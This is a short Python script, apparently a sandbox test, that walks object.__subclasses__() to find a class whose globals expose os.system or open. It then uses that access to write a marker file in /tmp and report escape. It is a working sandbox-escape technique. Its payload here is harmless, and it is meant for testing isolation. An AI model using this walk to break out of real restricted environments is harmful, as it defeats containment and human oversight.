# The classic escape: walk from a literal to object, list every class, and look for one whose
# methods' globals reach os, open or __import__. Prints ESCAPED only if it works.
classes = ().__class__.__base__.__subclasses__()
print("found classes:", len(classes) > 0)
for cls in classes:
    init = getattr(cls, "__init__", None)
    g = getattr(init, "__globals__", None)
    if not isinstance(g, dict):
        continue
    system = g.get("system")
    if system is not None:
        system("touch /tmp/coroscope-hostile-sandbox_subclasses_walk")
        print("ESCAPED via", cls.__name__)
        break
    b = g.get("__builtins__")
    opener = b.get("open") if isinstance(b, dict) else getattr(b, "open", None)
    if opener is not None:
        opener("/tmp/coroscope-hostile-sandbox_subclasses_walk", "w").close()
        print("ESCAPED via", cls.__name__)
        break
print("walk finished")
